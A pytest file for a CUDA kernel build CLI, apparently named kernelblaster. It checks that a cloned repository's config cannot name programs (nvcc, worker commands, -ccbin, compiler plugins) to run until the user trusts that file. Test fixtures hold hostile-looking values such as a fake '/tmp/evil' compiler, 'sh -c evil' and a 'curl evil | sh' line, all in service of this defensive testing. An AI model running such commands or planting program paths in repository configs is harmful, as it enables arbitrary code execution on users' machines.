"""The CLI's trust boundary: a repository's configuration file may not name programs for
kernelblaster to run (nvcc, ncu, workers, host-compiler flags) until the user trusts that file
as it is; other settings from it apply as before. A broken pyproject.toml of another project
higher up the tree is not our error."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest

from kernelblaster.settings import (
    SettingsError,
    UntrustedConfigError,
    config_references,
    load_settings,
)
from kernelblaster.trust import allow_list_path, folder_trusted, trust


@pytest.fixture(autouse=True)
def own_config_home(tmp_path, monkeypatch):
    """The trust list lives in the user's config folder: a private one per test."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config-home"))


def _repo(tmp_path, text: str):
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "kernelblaster.toml").write_text(text)
    return repo


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ('nvcc = "/tmp/evil"\n', "nvcc = '/tmp/evil'"),
        ('worker_command = ["sh", "-c", "evil"]\n', "worker_command"),
        ('ncu_path = "./ncu"\n', "ncu_path"),
        ('nvcc_flags = ["-ccbin", "/tmp/evil"]\n', "nvcc_flags with -ccbin"),
        (
            '[[targets]]\nsource = "a.cu"\nnvcc_flags = ["-Xcompiler=-fplugin=/tmp/p.so"]\n',
            "targets[0].nvcc_flags with -Xcompiler=-fplugin",
        ),
    ],
)
def test_programs_named_by_a_repository_file_need_trust(tmp_path, text, named):
    repo = _repo(tmp_path, text)
    with pytest.raises(UntrustedConfigError) as refused:
        load_settings(repo, environ={})
    assert named in str(refused.value)
    assert f"kernelblaster trust {repo}" in str(refused.value)


def test_other_settings_need_no_trust(tmp_path):
    repo = _repo(tmp_path, 'rollouts = 2\nnvcc_flags = ["-lineinfo", "-Xptxas=-v"]\n')
    assert load_settings(repo, environ={}).rollouts == 2


def test_trust_holds_for_the_file_as_trusted_and_ends_with_an_edit(tmp_path):
    repo = _repo(tmp_path, 'nvcc = "/opt/cuda/bin/nvcc"\n')
    trust(repo / "kernelblaster.toml", [], [])
    assert load_settings(repo, environ={}).nvcc == "/opt/cuda/bin/nvcc"
    (repo / "kernelblaster.toml").write_text('nvcc = "/tmp/evil"\n')
    with pytest.raises(UntrustedConfigError):
        load_settings(repo, environ={})


def test_a_corrupt_trust_list_is_reported_not_ignored(tmp_path):
    repo = _repo(tmp_path, 'nvcc = "/opt/cuda/bin/nvcc"\n')
    allow_list_path().parent.mkdir(parents=True)
    allow_list_path().write_text("{not json")
    with pytest.raises(SettingsError, match=r"trust list .* can.t be read"):
        load_settings(repo, environ={})


def test_a_broken_pyproject_of_another_project_above_is_passed_over(tmp_path):
    (tmp_path / ".git").mkdir()  # the repository's root: its own pyproject.toml is read
    (tmp_path / "pyproject.toml").write_text("[project\nname = 'someone else'\n")
    (tmp_path / "work").mkdir()
    assert load_settings(tmp_path / "work", environ={}).rollouts == 4
    (tmp_path / "pyproject.toml").write_text("[tool.kernelblaster]\nrollouts = = 3\n")
    with pytest.raises(SettingsError, match=r"pyproject\.toml"):
        load_settings(tmp_path / "work", environ={})


def _cli(repo, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "XDG_CONFIG_HOME": os.environ["XDG_CONFIG_HOME"]}
    env.pop("KERNELBLASTER_TRUST_CONFIG", None)
    command = [sys.executable, "-m", "kernelblaster", *args]
    return subprocess.run(command, cwd=repo, env=env, capture_output=True, text=True, timeout=120)


def test_the_cli_runs_no_program_a_cloned_repository_names_until_trusted(tmp_path):
    marker = tmp_path / "ran"
    evil = tmp_path / "evil-nvcc"
    evil.write_text(f"#!/bin/sh\ntouch {marker}\nexit 1\n")
    evil.chmod(0o755)
    repo = _repo(tmp_path, f'nvcc = "{evil}"\n')
    (repo / "k.cu").write_text("__global__ void k() {}\n")

    refused = _cli(repo, "build", "k.cu", "--arch", "sm_90")
    assert refused.returncode == 2 and not marker.exists()
    assert "kernelblaster trust" in refused.stderr and "--trust" in refused.stderr

    _cli(repo, "--trust", "build", "k.cu", "--arch", "sm_90")
    assert marker.exists()  # one run, on the user's word
    marker.unlink()
    assert _cli(repo, "build", "k.cu", "--arch", "sm_90").returncode == 2

    assert "trusted:" in _cli(repo, "trust").stdout
    _cli(repo, "build", "k.cu", "--arch", "sm_90")
    assert marker.exists()
    assert str(repo / "kernelblaster.toml") in _cli(repo, "trust", "--list").stdout


def test_an_entry_of_an_older_trust_list_still_holds(tmp_path):
    import hashlib
    import json

    repo = _repo(tmp_path, 'nvcc = "/opt/cuda/bin/nvcc"\n')
    config = repo / "kernelblaster.toml"
    allow_list_path().parent.mkdir(parents=True)
    old = {str(config.resolve()): hashlib.sha256(config.read_bytes()).hexdigest()}
    allow_list_path().write_text(json.dumps(old))
    assert load_settings(repo, environ={}).nvcc == "/opt/cuda/bin/nvcc"


def test_a_named_link_pointed_elsewhere_after_trust_needs_trust_again(tmp_path):
    repo = _repo(tmp_path, 'nvcc_flags = ["-ccbin", "tools/cc"]\n')
    (repo / "tools").mkdir()
    for name in ("gcc-a", "gcc-b"):
        (repo / "tools" / name).write_text(f"#!/bin/sh\n# {name}\n")
    (repo / "tools" / "cc").symlink_to("gcc-a")
    trust(repo / "kernelblaster.toml", [repo / "tools" / "cc"], [])
    assert load_settings(repo, environ={}).nvcc_flags == ["-ccbin", "tools/cc"]
    (repo / "tools" / "cc").unlink()
    (repo / "tools" / "cc").symlink_to("gcc-b")
    with pytest.raises(UntrustedConfigError, match="-ccbin, tools/cc"):
        load_settings(repo, environ={})


def test_a_trusted_program_folder_is_covered_with_everything_below_it(tmp_path):
    """`-ccbin tools`: a program there may run its neighbours, in folders below it too; a link
    back into the folder is not followed twice."""
    repo = _repo(tmp_path, 'nvcc_flags = ["-ccbin", "tools"]\n')
    (repo / "tools" / "lib").mkdir(parents=True)
    (repo / "tools" / "gcc").write_text('#!/bin/sh\nexec "$(dirname "$0")/lib/run.sh" "$@"\n')
    (repo / "tools" / "lib" / "run.sh").write_text('#!/bin/sh\nexec gcc "$@"\n')
    (repo / "tools" / "lib" / "loop").symlink_to("..")
    named, places = config_references(repo / "kernelblaster.toml", repo)
    assert named == [repo / "tools"] and places == []
    trust(repo / "kernelblaster.toml", named, places)
    assert load_settings(repo, environ={}).nvcc_flags == ["-ccbin", "tools"]
    (repo / "tools" / "lib" / "run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    with pytest.raises(UntrustedConfigError, match="-ccbin, tools"):
        load_settings(repo, environ={})


def test_the_cli_trusts_a_folder_for_the_language_server_and_revokes_it(tmp_path):
    """A folder with no configuration file is still one the user may trust to run kernels in."""
    folder = tmp_path / "kernels"
    folder.mkdir()
    said = _cli(folder, "trust")
    assert said.returncode == 0 and f"trusted: {folder}/" in said.stdout
    assert folder_trusted(folder) and folder_trusted(folder / "deeper")
    assert not folder_trusted(tmp_path) and not folder_trusted(tmp_path / "kernels-other")
    assert f"{folder}/ (workspace folder)" in _cli(folder, "trust", "--list").stdout
    assert f"revoked: {folder}/" in _cli(folder, "trust", "--revoke").stdout
    assert not folder_trusted(folder)
